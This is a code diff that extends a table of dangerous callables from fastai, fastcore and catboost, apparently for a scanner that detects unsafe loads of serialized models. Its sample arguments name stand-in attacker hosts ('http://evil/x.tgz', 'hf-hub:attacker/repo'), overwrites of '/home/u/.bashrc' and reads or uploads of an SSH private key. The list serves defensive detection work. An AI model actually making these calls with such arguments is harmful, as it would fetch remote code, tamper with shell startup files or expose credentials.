@@ -154,6 +154,10 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("torch.nn.functional", "torch.distributed.TCPStore", ("evil", 1)),
         ("transformers.integrations.integration_utils", "run_hp_search_ray", ("t", 10, "max")),
         ("transformers.cli", "main", ()),
+        # fastcore's parallel (a ProcessPoolExecutor map) re-exported by fastai
+        ("fastai.torch_core", "parallel", ("f", "items", 8)),
+        ("fastcore.basics", "startproc", ("f",)),
+        ("fastai.text.core", "parallel_tokenize", ("items",)),
     ],
     "code-exec": [
         ("builtins", "eval", ("1+1",)),
@@ -321,6 +325,9 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
             ("/tmp/ckpt", "/tmp/cfg.json", "/home/u/out"),
         ),
         ("diffusers.pipelines.stable_diffusion.convert_from_ckpt", "x", ("/tmp/x.ckpt",)),
+        # a timm arch string is fetched from the Hub
+        ("fastai.vision.learner", "vision_learner", ("dls", "hf-hub:attacker/repo")),
+        ("fastai.text.learner", "language_model_learner", ("dls", "arch")),
     ],
     "import-system": [
         ("zipimport", "zipimporter", ("/tmp/x.zip",)),
@@ -348,6 +355,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("_xxsubinterpreters", "run_string", (1, "import os")),
         ("_interpreters", "exec", (1, "import os")),
         ("_thread", "start_new_thread", ("x", "y")),
+        ("fastcore.basics", "startthread", ("f",)),
         ("concurrent.futures", "ThreadPoolExecutor", (4,)),
         ("optuna.study.study", "Study.optimize", ("objective", 10)),
     ],
@@ -402,6 +410,15 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("zipapp", "create_archive", ("/tmp/x", "/home/u/.bashrc")),
         ("linecache", "getline", ("/home/u/.ssh/id_rsa", 1)),
         ("torchvision.datasets.utils", "_extract_tar", ("/tmp/x.tar", "/home/u")),
+        ("catboost.datasets", "_cached_dataset_load", ("http://evil/x.tgz", "..", "a", "b")),
+        ("catboost.datasets", "_extract", ("/tmp/x.tgz", "/home/u")),
+        ("catboost", "train", ("pool", "params")),
+        ("catboost.core", "CatBoost.fit", ("x",)),
+        ("catboost.utils", "create_cd", ("label", "cat", "/home/u/.bashrc")),
+        ("fastai.text.core", "tokenize_folder", ("/tmp/x", "/home/u")),
+        ("fastai.vision.utils", "resize_images", ("/tmp/x", "/home/u")),
+        ("fastcore.shutil", "copy", ("/tmp/x", "/home/u/.bashrc")),
+        ("fastai.data.external", "FastDownload", ("cfg", "/home/u")),
         ("joblib.memory", "MemorizedFunc", ("f", "/home/u")),
     ],
     "network": [
@@ -432,6 +449,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("optuna.storages", "get_storage", ("postgresql://evil/db",)),
         ("optuna.artifacts", "upload_artifact", ("s", "/home/u/.ssh/id_rsa", "store")),
         ("xgboost.collective", "init", ()),
+        ("fastdownload", "FastDownload", ()),
         ("scipy.datasets", "face", ()),
         ("transformers.utils.hub", "has_file", ("attacker/repo", "x")),
         ("transformers.safetensors_conversion", "auto_conversion", ("attacker/repo",)),
